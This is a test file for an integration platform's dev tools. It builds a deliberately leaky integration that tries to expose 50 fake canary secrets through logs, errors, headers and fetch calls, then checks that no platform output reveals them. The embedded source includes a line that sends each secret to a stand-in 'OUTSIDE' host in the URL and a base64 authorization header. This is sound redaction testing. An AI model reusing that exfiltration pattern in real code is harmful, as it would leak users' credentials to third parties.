import { mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { findSession } from '../../src/dev/claim-session.js';
import { devHere, type DevHere } from '../support/dev-here.js';
import { runCli } from '../support/run-cli.js';

/** Each of another kind: letters, spaces, quotes, backslashes, UTF-8, all that a URL escapes. */
const canaries = Object.fromEntries(
  Array.from({ length: 50 }, (_, n) => {
    const tail =
      ['', ' with space', '/+=&?', '"quoted"', String.raw`back\slash`, 'é€🐤', "it's!()*"][n % 7] ?? '';
    return [`CANARY_${n}`, `canary-${n}-${(n * 7919 + 104_729).toString(36)}${tail}`];
  }),
);
const names = Object.keys(canaries);

const manifest = `name: leaky
title: Leaky
description: Leaks all that it knows.
organization: org_local
visibility: private
scopes: []
script: src/index.tsx
configurations:
  account:
    properties:
      note: { type: string, title: Note, description: Anything. }
secrets:
${names.map((name) => `  ${name}: \${{ env.${name} }}`).join('\n')}
`;

const source = `
import { createComponent, createIntegration } from 'integration-platform';

const spell = (text: string): string[] => {
  const bytes = new TextEncoder().encode(text);
  const hex = [...bytes].map((byte) => byte.toString(16).padStart(2, '0')).join('');
  return [text, encodeURIComponent(text), new URLSearchParams({ k: text }).toString(), btoa(String.fromCharCode(...bytes)), hex, JSON.stringify({ text })];
};

export default createIntegration({
  components: [
    createComponent({
      componentId: 'leak',
      initialState: (_props, _context, { environment }) => ({ all: Object.values(environment.secrets) }),
      render: async (element) => <block><text>{element.state.all.join(' ')}</text></block>,
    }),
  ],
  events: {
    installation_setup: async (_event, { environment }) => console.log('at setup', environment.secrets),
    space_content_updated: async (_event, { environment }) => {
      throw new Error(Object.values(environment.secrets).join(' '));
    },
  },
  fetch: async (request, context) => {
    const secret = context.environment.secrets[new URL(request.url).searchParams.get('name') ?? ''] ?? '';
    const spelt = spell(secret);
    console.log('log', ...spelt);
    console.error(new Error(secret));
    await fetch('http://127.0.0.1:1/' + encodeURIComponent(secret)).catch(() => {});
    await fetch('OUTSIDE/?key=' + encodeURIComponent(secret), { headers: { authorization: btoa(spelt[1] ?? '') } });
    setTimeout(() => console.warn('late', ...spelt), 50);
    if (request.headers.get('x-throw')) throw new TypeError('thrown ' + secret);
    const headers = { 'x-secret': encodeURIComponent(secret), location: '/?' + spelt[2] };
    return Response.json({ secret, spelt, tokens: context.environment.apiTokens }, { headers });
  },
});
`;

const folder = mkdtempSync(join(tmpdir(), 'leaky-'));
let dev: DevHere;
let endpoint = '';
let outside: ReturnType<typeof createServer>;
beforeAll(async () => {
  outside = createServer((_, response) => response.end('OK')).listen(0, '127.0.0.1');
  await new Promise((resolve) => outside.once('listening', resolve));
  const { port } = outside.address() as AddressInfo;
  mkdirSync(join(folder, 'src'));
  writeFileSync(join(folder, 'platform-manifest.yaml'), manifest);
  writeFileSync(join(folder, 'src/index.tsx'), source.replace('OUTSIDE', `http://127.0.0.1:${port}`));
  dev = devHere(folder, ['--port', '0', '--state', 'disk'], { env: canaries });
  await dev.prints(/site_installation_setup/);
  endpoint = /Public\s+(\S+)/.exec(dev.text())?.[1] ?? '';
});
afterAll(async () => {
  await dev.stop();
  outside.close();
  rmSync(folder, { recursive: true, force: true });
});

/** As it is, in a URL, in a form, in base64, in hex, in JSON. */
function spellings(secret: string): string[] {
  const bytes = Buffer.from(secret);
  return [
    secret,
    encodeURIComponent(secret),
    new URLSearchParams({ k: secret }).toString().slice(2),
    bytes.toString('base64').replace(/=+$/, ''),
    bytes.toString('base64url'),
    bytes.toString('hex'),
    JSON.stringify(secret).slice(1, -1),
  ];
}

test('never shows any of the 50 secrets that a script tries to leak', async () => {
  const places: Record<string, string> = {};
  const cli = async (...argv: string[]): Promise<string> => {
    const { stdout, stderr } = await runCli(argv, { cwd: folder });
    const place = `platform ${argv.slice(0, 1).join(' ')}${argv.includes('--json') ? ' --json' : ''}`;
    places[place] = (places[place] ?? '') + stdout + stderr;
    return stdout;
  };
  for (const [n, name] of names.entries()) {
    const query = new URLSearchParams({ name, echoed: canaries[name] ?? '' });
    const answer = await fetch(`${endpoint}/x?${query.toString()}`, {
      method: 'POST',
      body: `sent along: ${canaries[name]}`,
      headers: {
        authorization: `Bearer ${encodeURIComponent(canaries[name] ?? '')}`,
        ...(n % 2 && { 'x-throw': '1' }),
      },
    });
    const text = await answer.text();
    // The answer itself is the author's own: it is passed on as it is.
    if (answer.ok) expect(JSON.parse(text)).toMatchObject({ secret: canaries[name] });
  }
  await dev.prints(/late/);
  await cli('trigger', 'space_content_updated', '--json');
  await cli('render', 'leak');
  await cli('render', 'leak', '--json');
  await cli('logs', '--limit', '500');
  const { items } = JSON.parse(await cli('logs', '--limit', '500', '--json')) as { items: { id: string }[] };
  expect(items.length).toBeGreaterThan(names.length);
  for (const { id } of items) {
    await cli('inspect', id);
    await cli('inspect', id, '--json');
  }
  for (const { id } of items.slice(-4)) {
    await cli('replay', id);
    await cli('replay', id, '--json');
  }
  const { consoleOrigin = '', token } = findSession(folder, {
    isRunning: () => true,
    userId: process.geteuid?.(),
  }) ?? { token: '' };
  for (const path of [
    '/overview',
    '/installations',
    '/calls?limit=500',
    '/events',
    '/snapshots',
    '/blocks',
    '/configuration',
  ]) {
    const answer = await fetch(`${consoleOrigin}/console/api${path}`, {
      headers: { 'x-platform-token': token },
    });
    places['console API'] = (places['console API'] ?? '') + (await answer.text());
  }
  places['console page'] = await (await fetch(`${consoleOrigin}/console/`)).text();
  await dev.stop();
  places['output of platform dev'] = dev.text() + (await dev.ended).stderr;
  for (const file of readdirSync(join(folder, '.platform')).filter((name) => name.startsWith('state')))
    places[`.platform/${file}`] =
      readFileSync(join(folder, '.platform', file), 'latin1') +
      readFileSync(join(folder, '.platform', file), 'utf8');

  const seen = Object.entries(places).flatMap(([place, text]) =>
    Object.entries(canaries).flatMap(([name, secret]) =>
      spellings(secret)
        .filter((spelling) => text.includes(spelling))
        .map((spelling) => `${place}: ${name} as ${spelling}`),
    ),
  );
  const characters = Object.fromEntries(Object.entries(places).map(([place, text]) => [place, text.length]));
  console.log(`50 secrets, ${spellings('x').length} spellings each; characters searched:`, characters);
  expect(seen).toEqual([]);
  expect(characters['.platform/state.db']).toBeGreaterThan(100_000);
}, 120_000);
